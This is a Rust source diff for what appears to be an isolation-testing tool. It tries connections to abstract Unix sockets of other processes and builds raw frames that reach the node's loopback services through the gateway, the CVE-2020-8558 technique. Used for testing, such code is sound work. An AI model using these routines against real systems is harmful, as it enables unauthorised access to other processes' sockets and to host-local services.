@@ -1,0 +1,100 @@
+//! Sockets: abstract names of others, and frames that address the node's loopback (CVE-2020-8558).
+
+use std::fs;
+use std::net::{Ipv4Addr, UdpSocket};
+use std::os::linux::net::SocketAddrExt;
+use std::os::unix::net::{SocketAddr, UnixStream};
+use std::time::{Duration, Instant};
+
+use super::raw;
+use crate::act::number;
+use crate::see::Outcome;
+
+/// Tries to connect to every abstract name that /proc/net/unix lists: `saw abstract NAME connected` or why not.
+pub(crate) fn sockets() -> Outcome {
+    let text = fs::read_to_string("/proc/net/unix").map_err(|error| format!("read: {error}"))?;
+    for name in text.lines().filter_map(|line| line.split_whitespace().nth(7)?.strip_prefix('@')) {
+        let said = SocketAddr::from_abstract_name(name).and_then(|address| UnixStream::connect_addr(&address));
+        println!("saw abstract {name} {}", said.map_or_else(|error| error.to_string(), |_| "connected".into()));
+    }
+    Ok(0)
+}
+
+/// Sends an UDP packet to an address of the node, whatever routes say: in a frame to the gateway's hardware address.
+pub(crate) fn frame(address: &str, port: &str, text: &str) -> Outcome {
+    let address: Ipv4Addr = address.parse().map_err(|_| format!("{address:?} is no address"))?;
+    let port = number(port)? as u16;
+    let (link, gateway) = route().ok_or("no default route")?;
+    let own = UdpSocket::bind("0.0.0.0:0")
+        .and_then(|socket| {
+            // So that each side knows the other's hardware address.
+            socket.connect((gateway, 9))?;
+            socket.send(b"hello")?;
+            socket.local_addr()
+        })
+        .map_err(|error| format!("reach {gateway}: {error}"))?;
+    let std::net::IpAddr::V4(from) = own.ip() else { return Err("no IPv4".into()) };
+    let hardware = neighbour(gateway).ok_or("the gateway has no hardware address")?;
+    let index = fs::read_to_string(format!("/sys/class/net/{link}/ifindex"))
+        .ok()
+        .and_then(|text| text.trim().parse().ok())
+        .ok_or("no link")?;
+    let packet = packet(from, address, own.port(), port, text.as_bytes());
+    match raw::send_frame(index, hardware, &packet) {
+        Ok(_) => println!("saw sent to {address}"),
+        Err(errno) => println!("held frame: {errno}"),
+    }
+    Ok(0)
+}
+
+/// Link and gateway of the default route: /proc/net/route, addresses in the machine's byte order.
+fn route() -> Option<(String, Ipv4Addr)> {
+    let text = fs::read_to_string("/proc/net/route").ok()?;
+    text.lines().skip(1).find_map(|line| {
+        let mut words = line.split_whitespace();
+        let (link, destination, gateway) = (words.next()?, words.next()?, words.next()?);
+        let gateway = u32::from_str_radix(gateway, 16).ok()?;
+        (destination == "00000000").then(|| (link.to_owned(), Ipv4Addr::from(gateway.to_ne_bytes())))
+    })
+}
+
+/// The hardware address of a neighbour, once it is known.
+fn neighbour(address: Ipv4Addr) -> Option<[u8; 6]> {
+    let end = Instant::now() + Duration::from_secs(10);
+    while Instant::now() < end {
+        let text = fs::read_to_string("/proc/net/arp").ok()?;
+        let line = text.lines().find(|line| line.split_whitespace().next() == Some(&address.to_string()));
+        let found = line.and_then(|line| line.split_whitespace().nth(3));
+        let bytes: Vec<u8> =
+            found.unwrap_or("").split(':').filter_map(|byte| u8::from_str_radix(byte, 16).ok()).collect();
+        if let Ok(bytes) = <[u8; 6]>::try_from(bytes)
+            && bytes != [0; 6]
+        {
+            return Some(bytes);
+        }
+        std::thread::sleep(Duration::from_millis(5));
+    }
+    None
+}
+
+/// An IPv4 packet with an UDP datagram; the datagram's checksum is left out, as RFC 768 allows.
+fn packet(from: Ipv4Addr, to: Ipv4Addr, from_port: u16, to_port: u16, data: &[u8]) -> Vec<u8> {
+    const HEADER: usize = 20;
+    const UDP_HEADER: usize = 8;
+    let length = (HEADER + UDP_HEADER + data.len()) as u16;
+    let mut packet = vec![0x45, 0];
+    packet.extend(length.to_be_bytes());
+    packet.extend([0, 1, 0, 0, 64, 17, 0, 0]);
+    packet.extend(from.octets());
+    packet.extend(to.octets());
+    let sum: u32 = packet.chunks(2).map(|pair| u32::from(u16::from_be_bytes([pair[0], pair[1]]))).sum();
+    let sum = (sum & 0xffff) + (sum >> 16);
+    let sum = !(((sum & 0xffff) + (sum >> 16)) as u16);
+    packet[10..12].copy_from_slice(&sum.to_be_bytes());
+    packet.extend(from_port.to_be_bytes());
+    packet.extend(to_port.to_be_bytes());
+    packet.extend(((UDP_HEADER + data.len()) as u16).to_be_bytes());
+    packet.extend([0, 0]);
+    packet.extend(data);
+    packet
+}
